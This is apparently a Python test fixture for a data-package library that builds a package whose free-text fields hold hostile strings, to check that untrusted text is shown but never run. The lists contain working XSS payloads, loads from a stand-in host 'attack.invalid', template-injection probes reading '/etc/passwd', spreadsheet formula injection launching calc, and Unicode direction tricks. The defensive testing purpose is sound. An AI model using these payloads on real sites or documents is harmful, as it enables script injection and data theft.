"""Text that a package may hold and that must be shown but never run: used by every test of untrusted text.

A string that runs does one of three things that a test can see: it sets
``window.attacked``, opens a dialog or asks for an address at ``HOST``.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

import fpdata as fp
from fpdata import saving, schema

HOST = "attack.invalid"
RUN = "window.attacked=1"

# each is shown as text, in whatever column a user has it
TEXTS = (
    # scripts and handlers
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//{HOST}/a.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="http://{HOST}/pixel.png">',
    "<img/src=`x`onerror=alert(1)>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    f"<object data=http://{HOST}/o.swf></object>",
    f"<embed src=http://{HOST}/e>",
    f"<link rel=stylesheet href=http://{HOST}/s.css>",
    f"<style>@import 'http://{HOST}/s.css'</style>",
    f"<style>*{{background:url(http://{HOST}/b)}}</style>",
    f'<div style="background-image:url(http://{HOST}/b)">x</div>',
    f"<base href=http://{HOST}/>",
    f'<meta http-equiv=refresh content="0,url=http://{HOST}/">',
    f"<form action=http://{HOST}/><button autofocus>Go</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    # out of what may surround the text
    f"</script><script>{RUN}</script>",
    f"</style></title></textarea><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"x'+({RUN})+'",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    # links
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//http://example.org",
    f"<a href=javascript:{RUN}>our ministry</a>",
    f'<a href="http://{HOST}/">preiherman2024:3.1</a>',
    f"data:text/html,<script>{RUN}</script>",
    f"[our ministry](javascript:{RUN})",
    f"![x](http://{HOST}/m.png)",
    # plotly, MathJax and templates
    "<b>bold</b><br><sup>2</sup><span style='font-size:99px'>large</span>",
    f'<a href="javascript:{RUN}" target="_blank">plotly link</a>',
    "%{customdata[0]} %{x} %{text}<extra></extra>",
    "$\\alpha$ $$\\href{javascript:window.attacked=1}{x}$$",
    "\\(\\require{html}\\)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}<%= 7 * 7 %>#{7*7}",
    "{{ ''.__class__.__mro__ }}",
    # order and width of characters
    "\u202eailartsuA ot\u202c visit",
    "\u2066\u2069\u200e\u200f\u061cIndia",
    "In\u200bdia\u2060\ufeff",
    "<\u0131mg src=x onerror=window.attacked=1>",
    "\uff1cscript\uff1ewindow.attacked=1\uff1c/script\uff1e",
    # spreadsheets
    "=1+1",
    f'=HYPERLINK("http://{HOST}/","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    # too much of it
    "A" * 5000,
    "<b>" * 1000,
    "e" + "\u0301" * 500,
    "__proto__",
    "constructor",
)

# no http(s) address: a package that has one of these as a source's url is refused
ADDRESSES = (
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "file:///etc/passwd",
    f"vbscript:{RUN}",
    f"//{HOST}/",
    f'https://example.org/"onmouseover="{RUN}',
    f"https://example.org/<script>{RUN}</script>",
)


def package(folder: Path) -> Path:
    """Write a package, valid in all its codes, whose every free text is one of `TEXTS`; give its folder.

    Every text stands in every free column of every table, beside the codes of
    the bundled article, so that the map, the time axis and the sectors are drawn.
    Validation refuses control characters and addresses that are not http(s):
    they are not in it.
    """
    corpus = fp.load()
    tables = {}
    for name in schema.tables():
        frame = schema.to_raw(name, getattr(corpus, name))
        if frame.empty:
            continue
        if name not in ("sources", "sentences"):
            frame = _hostile(name, frame)
        tables[name] = frame
    free = [field["name"] for field in schema.fields("sources", "text")]
    tables["sources"][free] = TEXTS[0]
    saving.write(folder, tables, {"name": "attack", "title": TEXTS[0]})
    return folder


def _hostile(name: str, frame: pd.DataFrame) -> pd.DataFrame:
    """Repeat a raw frame until every text has its row, and put the texts in its free columns."""
    whole = frame.iloc[[place % len(frame) for place in range(max(len(TEXTS), len(frame)))]].reset_index(drop=True)
    rules = schema.table(name)
    bound = {column for rule in ("together", "at_most_one") for group in rules.get(rule, []) for column in group}
    texts = pd.Series([TEXTS[place % len(TEXTS)] for place in range(len(whole))])
    for field in schema.fields(name, "text"):
        column = field["name"]
        whole[column] = texts if column not in bound else texts.where(whole[column] != "", "")
    for column in [*schema.key(name), *({"event_id"} & set(whole))]:
        whole[column] = [f"{value}.{place}" for place, value in enumerate(whole[column])]
    for column in {"person_id", "visit_id"} & set(whole) - set(schema.key(name)):
        whole[column] = ""
    return whole
